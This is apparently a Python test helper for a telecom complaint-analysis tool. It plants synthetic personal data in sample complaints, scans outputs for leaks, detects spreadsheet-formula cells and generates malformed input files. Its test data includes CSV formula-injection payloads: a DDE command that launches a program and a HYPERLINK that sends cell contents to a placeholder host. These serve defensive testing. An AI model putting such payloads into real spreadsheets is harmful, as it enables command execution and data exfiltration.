"""Shared by the leak and hostile-input tests and ``benchmarks/bench_safety.py``.

- :func:`planted_corpus`: complaints (texts of the sample world) with personal data of every covered kind planted
  in random formats, near misses that must stay, formula payloads and malformed rows; every planted value comes
  with the probes that must not appear in any output.
- :func:`scan_outputs`: every probe found in every file under some directories (CSV/JSON/YAML/HTML text,
  Parquet cells, model archives' JSON and NumPy string arrays), with separators and width folded away so a
  phone written as 138 1234 5678 or split into tokens is still found.
- :func:`formula_cells`: CSV cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import json
import random
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_logs"

_SURNAMES = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何林罗郑梁谢宋唐韩冯邓曹彭曾"
_GIVEN = "伟芳娜敏静丽强磊军洋勇艳杰娟涛超秀霞刚桂英华玉兰萍红鹏飞"
_COMPOUND = ["欧阳", "司马", "上官", "诸葛"]
_ROADS = ["建国", "中山", "人民", "解放", "长江", "黄河", "和平", "新华", "延安", "胜利", "淮海", "迎宾"]
_ESTATES = ["阳光", "翠湖", "金色", "碧水", "东方", "海景", "锦华", "枫林"]
_CITIES = ["北京市朝阳区", "上海市浦东新区", "广州市天河区", "杭州市西湖区", "成都市武侯区", ""]
_REGIONS = ["110105", "310115", "440106", "330106", "320102", "510107", "420106", "370202"]
_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
_FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


@dataclass
class Planted:
    kind: str
    shown: str                 # as written into the text
    probes: list[str]          # none of these may appear in any output (compared without separators)


@dataclass
class Corpus:
    frame: pd.DataFrame
    planted: list[Planted] = field(default_factory=list)
    near_misses: dict[int, list[str]] = field(default_factory=dict)  # row -> values that must stay verbatim
    malformed: list[str] = field(default_factory=list)               # raw lines with too many fields

    def write(self, path: Path) -> Path:
        """CSV with the malformed lines appended (they carry planted values too)."""
        self.frame.to_csv(path, index=False, encoding="utf-8")
        with open(path, "a", encoding="utf-8", newline="") as fh:
            for line in self.malformed:
                fh.write(line + "\n")
        return path


def _digits(rng, n: int, first: str = "0123456789") -> str:
    return rng.choice(first) + "".join(rng.choice("0123456789") for _ in range(n - 1))


def _check_char(body17: str) -> str:
    return "10X98765432"[sum(int(d) * w for d, w in zip(body17, _WEIGHTS)) % 11]


def _luhn_complete(body: str) -> str:
    for d in "0123456789":
        n = body + d
        total = 0
        for i, ch in enumerate(reversed(n)):
            v = int(ch)
            if i % 2:
                v = v * 2 - 9 if v > 4 else v * 2
            total += v
        if total % 10 == 0:
            return n
    raise AssertionError


def _mobile(rng) -> Planted:
    number = rng.choice(["13", "15", "17", "18", "19"]) + _digits(rng, 9)
    a, b, c = number[:3], number[3:7], number[7:]
    shown = rng.choice([
        number, f"{a} {b} {c}", f"{a}-{b}-{c}", f"{a} {b}-{c}", f"+86 {a} {b} {c}", f"+86{number}",
        f"0086-{number}", f"(+86){number}", number.translate(_FULLWIDTH), f"tel{number}", f"Tel:{a}-{b}-{c}",
    ])
    return Planted("mobile", shown, [number])


def _landline(rng) -> Planted:
    area = rng.choice(["010", "021", "020", "028", "0755", "0571", "0592"])
    local = _digits(rng, 8 if len(area) == 3 else rng.choice([7, 8]), "23456789")
    half = len(local) - 4
    shown = rng.choice([f"{area}-{local}", f"{area} {local}", f"{area}-{local[:half]} {local[half:]}",
                        f"({area}){local}", f"{area}{local}" if len(area) == 3 or len(local) == 8 else f"{area}-{local}"])
    return Planted("landline", shown, [area + local])


def _birth(rng) -> str:
    year = rng.randint(1950, 2005)
    month = rng.randint(1, 12)
    day = rng.randint(1, 28)
    return f"{year}{month:02d}{day:02d}"


def _id_number(rng) -> Planted:
    region, birth, seq = rng.choice(_REGIONS), _birth(rng), _digits(rng, 3)
    body = region + birth + seq
    variant = rng.choice(["valid", "valid", "wrong_check", "legacy", "spaced"])
    if variant == "legacy":
        number = region + birth[2:] + seq
        return Planted("id15", number, [number])
    check = _check_char(body)
    if variant == "wrong_check":
        check = rng.choice([c for c in "0123456789" if c != check])
    number = body + check
    shown = f"{region} {birth} {seq}{check}" if variant == "spaced" else number
    if check == "X" and rng.random() < 0.5:
        shown = shown[:-1] + "x"
    return Planted("id18", shown, [body])


def _card(rng) -> Planted:
    length = rng.choice([16, 19])
    number = _luhn_complete(rng.choice(["62", "45", "52"]) + _digits(rng, length - 3))
    shown = " ".join(number[i:i + 4] for i in range(0, len(number), 4)) if rng.random() < 0.4 else number
    return Planted("card", shown, [number])


def _email(rng) -> Planted:
    local = rng.choice(["zhang", "li.ming", "wang_fang", "kefu", "user"]) + _digits(rng, 4)
    domain = rng.choice(["qq.com", "163.com", "example.com.cn", "139.com", "Mail.CN"])
    shown = f"{local}@{domain}"
    return Planted("email", shown, [shown.lower()])


def _qq(rng) -> Planted:
    number = _digits(rng, rng.choice([9, 10]), "123456789")
    marker = rng.choice(["QQ", "qq号", "QQ号码是", "扣扣", "QQ："])
    return Planted("qq", f"{marker}{number}", [number])


def _wechat(rng) -> Planted:
    chars = "abcdefghijkmnpqrstuvwxyz"
    ident = rng.choice(chars) + "".join(rng.choice(chars + "0123456789_") for _ in range(rng.randint(7, 12)))
    if rng.random() < 0.2:
        ident = "wxid_" + "".join(rng.choice(chars + "0123456789") for _ in range(10))
        return Planted("wechat", f"加我{ident}", [ident])
    marker = rng.choice(["微信", "微信号", "微信号：", "vx:", "VX ", "wx: ", "加微信"])
    return Planted("wechat", f"{marker}{ident}", [ident])


def _name(rng) -> Planted:
    surname = rng.choice(_COMPOUND) if rng.random() < 0.15 else rng.choice(_SURNAMES)
    given = "".join(rng.choice(_GIVEN) for _ in range(2))
    name = surname + given
    if rng.random() < 0.5:
        marker = rng.choice(["姓名：", "联系人", "户主", "机主姓名", "收件人：", "联系人姓名是"])
        return Planted("name", f"{marker}{name}", [name])
    honorific = rng.choice(["先生", "女士", "小姐"])
    return Planted("name", f"{name}{honorific}", [name])


def _address(rng) -> Planted:
    room = f"{rng.randint(1, 30)}栋{rng.randint(1, 6)}单元{rng.randint(1, 30)}0{rng.randint(1, 4)}室"
    if rng.random() < 0.5:
        road = rng.choice(_ROADS) + rng.choice(["路", "街", "大道"])
        core = f"{road}{rng.randint(1, 999)}号"
        shown = rng.choice(_CITIES) + core + (room if rng.random() < 0.3 else "")
        return Planted("address", shown, [core])
    estate = rng.choice(_ESTATES) + rng.choice(["小区", "花园", "家园", "公寓"])
    shown = rng.choice(_CITIES) + estate + room
    return Planted("address", shown, [estate + room[:room.index("栋") + 1]])


KINDS = {"mobile": _mobile, "landline": _landline, "id": _id_number, "card": _card, "email": _email,
         "qq": _qq, "wechat": _wechat, "name": _name, "address": _address}

_CONTEXT = {"mobile": ["联系电话", "客户号码", "回拨", ""], "landline": ["座机", "固话", "办公电话"],
            "id": ["身份证号", "证件号码", "身份证"], "card": ["银行卡号", "卡号", "扣款账户"], "email": ["邮箱", "邮件发到"],
            "qq": [""], "wechat": [""], "name": [""], "address": ["家住", "地址：", "装机地址", "住在"]}


def _near_misses(rng) -> list[str]:
    """Numbers and words that look like PII to a careless mask and must stay."""
    order = _digits(rng, rng.choice([16, 17, 18, 19]), "2")  # starts with 2: no region, and Luhn fails below
    while _luhn_complete(order[:-1]) == order:
        order = order[:-1] + str((int(order[-1]) + 1) % 10)
    return [rng.choice(["10086", "10010", "95588", "12315", "4008108888", "400-810-8888"]),
            order, f"{rng.randint(10, 999)}.{rng.randint(10, 99)}元", f"2024-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}",
            f"20240{rng.randint(1, 9)}1{rng.randint(0, 9)}", rng.choice(["KT5G59A", "5G畅享套餐", "100M宽带", "4G飞享58元"]),
            f"工单号{_digits(rng, 10, '123456789')}"]


_FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"点击")', "+SUM(1,2)", "-1+2 网速慢", "@SUM(A1)",
             "\t=1+1 话费", "=cmd|' /C calc'!A0"]


def planted_corpus(n: int = 90, seed: int = 0) -> Corpus:
    """``n`` labelled complaints (every class of the sample taxonomy) with 1-3 planted values each, near misses,
    formula payloads in a few texts, and three malformed lines (too many fields) that carry planted values."""
    rng = random.Random(seed)
    base = pd.read_csv(SAMPLE / "complaints.csv")
    per_label = max(5, n // base["label"].nunique())
    base = base.groupby("label").head(per_label).reset_index(drop=True)
    corpus = Corpus(frame=base.copy())
    texts = []
    kinds = list(KINDS)
    for i, text in enumerate(base["text"].astype(str)):
        parts = [text]
        for k in range(rng.randint(1, 3)):
            kind = kinds[(i * 3 + k) % len(kinds)]
            p = KINDS[kind](rng)
            corpus.planted.append(p)
            parts.insert(rng.randint(0, len(parts)), rng.choice(_CONTEXT[kind]) + p.shown)
        misses = _near_misses(rng)
        corpus.near_misses[i] = misses
        parts.append("，".join(misses))
        t = "，".join(parts)
        if i % 14 == 3:
            t = _FORMULAS[(i // 14) % len(_FORMULAS)] + t
        texts.append(t)
    corpus.frame["text"] = texts
    ids = []
    for _ in texts:  # a fifth of the customers are known by their phone number, as in many telecom exports
        if rng.random() < 0.2:
            p = _mobile(rng)
            p = Planted("customer_id", p.probes[0], p.probes)
            corpus.planted.append(p)
            ids.append(p.shown)
        else:
            ids.append(f"U{rng.randint(1, 1600):07d}")
    corpus.frame["customer_id"] = ids
    for j in range(3):  # malformed: an extra field, each with a planted mobile and name
        m, nm = _mobile(rng), _name(rng)
        corpus.planted += [m, nm]
        corpus.malformed.append(f"X{j},U0000001,2024-03-0{j + 1}T10:00:00,热线,投诉{m.shown}{nm.shown},"
                                f"网络问题,extra field {j}")
    all_text = "\n".join(base["text"].astype(str))
    corpus.planted = [p for p in corpus.planted if not any(_norm(pr) in _norm(all_text) for pr in p.probes)]
    return corpus


# ----------------------------------------------------------------------------------------------- scanning

_SEPARATORS = re.compile(r"[\s\-()+]")
_FOLD = str.maketrans({c: c - 0xFEE0 for c in range(0xFF01, 0xFF5F)} | {0x3000: 0x20})


def _norm(text: str) -> str:
    return _SEPARATORS.sub("", text.translate(_FOLD)).lower()


def _file_texts(path: Path) -> list[str]:
    """The text a person could read from one output file."""
    suffix = path.suffix.lower()
    if suffix in (".parquet", ".pq"):
        df = pd.read_parquet(path)
        return [" ".join(map(str, df.columns))] + [df[c].astype(str).str.cat(sep="\n") for c in df.columns]
    if suffix == ".model" or zipfile.is_zipfile(path):
        out = []
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                raw = zf.read(name)
                if name.endswith(".npy"):
                    import io

                    arr = np.load(io.BytesIO(raw), allow_pickle=False)
                    if arr.dtype.kind in "US":
                        out.append("\n".join(map(str, arr.ravel().tolist())))
                else:
                    out.append(raw.decode("utf-8", errors="replace"))
        return out
    raw = path.read_bytes()
    for enc in ("utf-8-sig", "gb18030"):
        try:
            return [raw.decode(enc)]
        except UnicodeDecodeError:
            continue
    return [raw.decode("utf-8", errors="replace")]


def scan_outputs(dirs, planted: list[Planted]) -> list[tuple[str, str, str]]:
    """``(file, kind, probe)`` for every probe of ``planted`` found in any file under ``dirs``."""
    leaks = []
    for d in dirs:
        for path in sorted(Path(d).rglob("*")):
            if not path.is_file():
                continue
            hay = "\n".join(_norm(t) for t in _file_texts(path))
            for p in planted:
                for probe in p.probes:
                    if _norm(probe) in hay:
                        leaks.append((str(path), p.kind, probe))
    return leaks


def output_files(dirs) -> list[Path]:
    return [p for d in dirs for p in sorted(Path(d).rglob("*")) if p.is_file()]


FORMULA_START = tuple("=+-@\t\r\n＝＋－＠")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$")


def formula_cells(dirs) -> list[tuple[str, str]]:
    """``(file, cell)`` for every CSV/TSV cell (headers included) a spreadsheet would evaluate."""
    found = []
    for path in output_files(dirs):
        if path.suffix.lower() not in (".csv", ".tsv"):
            continue
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh, delimiter="\t" if path.suffix.lower() == ".tsv" else ","):
                for cell in row:
                    if cell.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(cell):
                        found.append((str(path), cell))
    return found


def read_accounting(output: str) -> list[tuple[int, int, int]]:
    """Every ``read N = used U + rejected R`` a command printed."""
    return [tuple(int(x.replace(",", "")) for x in m.groups())
            for m in re.finditer(r"read ([\d,]+) = used ([\d,]+) \+ rejected ([\d,]+)", output)]


def planted_json(corpus: Corpus) -> str:
    return json.dumps([p.__dict__ for p in corpus.planted], ensure_ascii=False, indent=1)


# ----------------------------------------------------------------------------------------------- hostile inputs

def _head(name: str, lines: int) -> str:
    with open(SAMPLE / name, encoding="utf-8-sig") as fh:
        return "".join(next(fh) for _ in range(lines))


def good_inputs(d: Path) -> dict[str, Path]:
    """Small valid inputs of every kind (from the sample world), one file each."""
    d.mkdir(parents=True, exist_ok=True)
    files = {"complaints": _head("complaints.csv", 80), "ivr_events": _head("ivr_events.csv", 400),
             "feedback": _head("feedback.csv", 300), "usage": _head("usage.csv", 600),
             "labels": _head("churn_labels.csv", 60)}
    rng = np.random.default_rng(0)
    care, chg = rng.poisson(2, 120), rng.normal(0, 30, 120).round(1)
    churn = (rng.random(120) < 0.3 + 0.05 * care).astype(int)
    files["customer_table"] = "customer,churn,care,chg\n" + "".join(
        f"C{i},{c},{a},{b}\n" for i, (c, a, b) in enumerate(zip(churn, care, chg)))
    files["call_records"] = "call_id,ivr_start,ivr_end,outcome,service\n" + "".join(
        f"R{i},2024-03-01 10:{i % 60:02d}:00,2024-03-01 10:{i % 60:02d}:40,{'AGENT' if i % 3 else 'HANG'},"
        f"{'PS' if i % 2 else 'NW'}\n" for i in range(60))
    out = {}
    for kind, text in files.items():
        out[kind] = d / f"{kind}.csv"
        out[kind].write_text(text, encoding="utf-8")
    out["menu"] = SAMPLE / "menu.yaml"
    return out


#: hostile versions of an input file: name -> (suffix, bytes or None for special files); all must fail cleanly
FILE_HOSTILE = ["missing", "directory", "symlink_loop", "empty", "binary", "unbalanced_quote", "header_only"]
#: ... and these exercise the reader of each format (run once per reader, see READER_COMMANDS)
FORMAT_HOSTILE = ["device", "wrong_extension", "garbage_parquet", "garbage_json", "deep_json", "deep_jsonl"]
#: hostile rows inside a valid file: the command may run (exit 0) or refuse (exit 1), never crash
ROW_HOSTILE = ["mixed_rows", "surrogate_jsonl", "utf16"]
#: the readers behind the commands (one command each is enough for the encodings and JSON variants)
READER_COMMANDS = ["classify predict", "ivr analyze", "ivr analyze-records", "churn quality", "churn evaluate",
                   "churn evaluate-table"]


def hostile_file(kind: str, variant: str, good: Path, d: Path) -> Path:
    """The ``variant`` of the ``kind`` input ``good``, written under ``d``."""
    import os

    d.mkdir(parents=True, exist_ok=True)
    header = good.read_text(encoding="utf-8-sig").splitlines()[0]
    p = d / f"{kind}_{variant}.csv"
    if variant == "missing":
        return d / f"{kind}_no_such_file.csv"
    if variant == "directory":
        p.mkdir(exist_ok=True)
        return p
    if variant == "symlink_loop":
        a, b = d / f"{kind}_loop_a.csv", d / f"{kind}_loop_b.csv"
        for x, y in ((a, b), (b, a)):
            if not x.is_symlink():
                os.symlink(y, x)
        return a
    if variant == "device":
        return Path("/dev/null")
    if variant == "empty":
        p.write_bytes(b"")
    elif variant == "binary":
        p.write_bytes(bytes(np.random.default_rng(1).integers(0, 256, 4000, dtype=np.uint8)))
    elif variant == "wrong_extension":
        p = p.with_suffix(".xls")
        p.write_bytes(good.read_bytes())
    elif variant == "garbage_parquet":
        p = p.with_suffix(".parquet")
        p.write_bytes(b"PAR1" + b"\x00garbage" * 50)
    elif variant == "garbage_json":
        p = p.with_suffix(".json")
        p.write_text('{"oops": [1, 2,', encoding="utf-8")
    elif variant == "deep_json":
        p = p.with_suffix(".json")
        p.write_text("[" * 600 + "]" * 600, encoding="utf-8")  # beyond the recursion limit of the parsers
    elif variant == "deep_jsonl":
        p = p.with_suffix(".jsonl")
        p.write_text('{"a":' * 5_000 + "1" + "}" * 5_000 + "\n", encoding="utf-8")
    elif variant == "unbalanced_quote":
        p.write_text(header + '\n"never closed,' + "x" * 200 + "\n" + "1,2,3\n" * 5, encoding="utf-8")
    elif variant == "header_only":
        p.write_text(header + "\n", encoding="utf-8")
    elif variant == "mixed_rows":
        p.write_bytes(good.read_bytes() + _bad_rows(header).encode("utf-8", errors="surrogateescape"))
    elif variant == "surrogate_jsonl":
        p = p.with_suffix(".jsonl")
        cols = next(csv.reader([header]))
        df = pd.read_csv(good, dtype=str, keep_default_na=False)
        lines = [json.dumps({c: (v + "\ud800" if i % 3 == 0 and j == 0 else v) for j, (c, v) in enumerate(row.items())})
                 for i, row in enumerate(df[cols].to_dict("records"))]
        p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    elif variant == "utf16":
        p.write_text(good.read_text(encoding="utf-8-sig"), encoding="utf-16")
    else:
        raise ValueError(variant)
    return p


def _bad_rows(header: str) -> str:
    """Rows of every hostile kind for a file with this header: each value in turn gets each bad form."""
    cols = next(csv.reader([header]))
    bad_values = ["inf", "-Infinity", "1e308", "12,5", "1900-01-01", "9999-12-31", "\udcff\udcfe", "a\x00b",
                  "=cmd|' /C calc'!A0", "x" * 20_000, "nan", ""]
    rows = []
    for k, v in enumerate(bad_values):
        row = [f"bad{k}"] * len(cols)
        row[k % len(cols)] = v
        rows.append(row)
    rows.append(["extra"] * (len(cols) + 2))
    rows.append(["short"])
    buf = []
    for row in rows:
        buf.append(",".join('"' + c.replace('"', '""') + '"' if ("," in c or '"' in c) else c for c in row))
    return "\n".join(buf) + "\n"


def built_once():
    """A pytest fixture body: Typer's test runner rebuilds the whole click command tree (every command's type
    hints) on each invoke, about 0.2 s; these suites invoke hundreds of times, so build it once per module."""
    import pytest
    import typer.main
    import typer.testing

    from ivr_text.cli.main import app

    command = typer.main.get_command(app)
    original = typer.testing._get_command
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(typer.testing, "_get_command", lambda a: command if a is app else original(a))
        yield
